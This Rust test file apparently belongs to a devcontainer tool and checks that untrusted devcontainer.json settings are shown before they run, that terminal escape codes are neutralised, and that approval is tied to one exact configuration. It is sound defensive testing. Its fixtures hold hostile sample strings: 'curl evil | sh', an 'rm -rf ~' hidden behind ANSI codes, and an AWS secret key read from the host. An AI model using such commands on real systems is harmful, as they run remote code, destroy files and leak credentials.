//! What an untrusted configuration is shown to do, and that a yes is remembered only for the same configuration.

use std::path::Path;

use super::*;

fn config(text: &str) -> DevContainer {
    skiff::devcontainer::parse(Path::new("/clone/.devcontainer/devcontainer.json"), text)
        .expect("a valid devcontainer.json")
        .0
}

#[test]
fn initialize_command_and_local_variables_are_what_acts_here() {
    let effects = LaptopEffects::of(
        &config(
            r#"{ "image": "debian", "initializeCommand": "curl evil | sh",
                 "containerEnv": { "K": "${localEnv:AWS_SECRET_ACCESS_KEY}", "H": "${env:HOME:/x}" },
                 "mounts": ["source=${localEnv:HOME},target=/h,type=bind"] }"#,
        ),
        true,
    );
    assert_eq!(
        effects.initialize_command.as_deref(),
        Some(r#""curl evil | sh""#)
    );
    assert_eq!(effects.local_env, ["AWS_SECRET_ACCESS_KEY", "HOME"]);
    let shown = effects.describe("file:///repo.git (devcontainer.json)");
    assert!(
        shown.contains("run initializeCommand here: \"curl evil | sh\""),
        "{shown}"
    );
    assert!(
        shown.contains("\"AWS_SECRET_ACCESS_KEY\", \"HOME\""),
        "{shown}"
    );

    // Where up does not run initializeCommand (a clone on an instance), only the variables act here.
    let on_aws = LaptopEffects::of(
        &config(r#"{ "image": "debian", "initializeCommand": "x" }"#),
        false,
    );
    assert!(on_aws.is_none(), "{on_aws:?}");
    let plain = LaptopEffects::of(
        &config(r#"{ "image": "debian", "workspaceFolder": "${localWorkspaceFolder}" }"#),
        true,
    );
    assert!(plain.is_none(), "{plain:?}");
}

/// A repository cannot hide what it runs behind terminal control codes (clearing the line, moving the cursor).
#[test]
fn control_codes_in_what_is_shown_are_escaped() {
    let effects = LaptopEffects::of(
        &config(
            r#"{ "image": "debian", "initializeCommand": "rm -rf ~ \u001b[2K\u001b[1Gecho hello",
                 "containerEnv": { "K": "${localEnv:A\u001b[2KB}" } }"#,
        ),
        true,
    );
    let shown = effects.describe("repo");
    assert!(!shown.contains('\u{1b}'), "{shown:?}");
    assert!(shown.contains("\\u001b[2K"), "{shown}");
}

#[test]
fn a_yes_is_remembered_for_that_configuration_only() {
    let folder = tempfile::tempdir().unwrap();
    let first = config(r#"{ "image": "debian", "initializeCommand": "make init" }"#);
    let file = Path::new("/clone/.devcontainer/devcontainer.json");
    confirm(
        "app",
        "file:///repo.git",
        file,
        &first,
        true,
        true,
        folder.path(),
    )
    .unwrap();
    // The same configuration again goes on without --trust and without a terminal.
    confirm(
        "app",
        "file:///repo.git",
        file,
        &first,
        true,
        false,
        folder.path(),
    )
    .unwrap();
    let remembered = std::fs::read_to_string(folder.path().join(TRUSTED_FILE)).unwrap();
    assert_eq!(remembered, digest(&first));

    // Nothing that acts here needs no answer at all.
    let harmless = config(r#"{ "image": "debian" }"#);
    confirm(
        "app",
        "file:///repo.git",
        file,
        &harmless,
        true,
        false,
        folder.path(),
    )
    .unwrap();

    // A changed configuration is not the one trusted. (Tests have no terminal to answer on when run by
    // `cargo xtask test` in CI; where one is attached the question would wait, so this case runs only without one.)
    if !std::io::stdin().is_terminal() {
        let changed =
            config(r#"{ "image": "debian", "initializeCommand": "make init && curl evil | sh" }"#);
        let error = confirm(
            "app",
            "file:///repo.git",
            file,
            &changed,
            true,
            false,
            folder.path(),
        )
        .unwrap_err()
        .to_string();
        assert!(error.contains("--trust"), "{error}");
        assert!(error.contains("curl evil"), "{error}");
    }
}
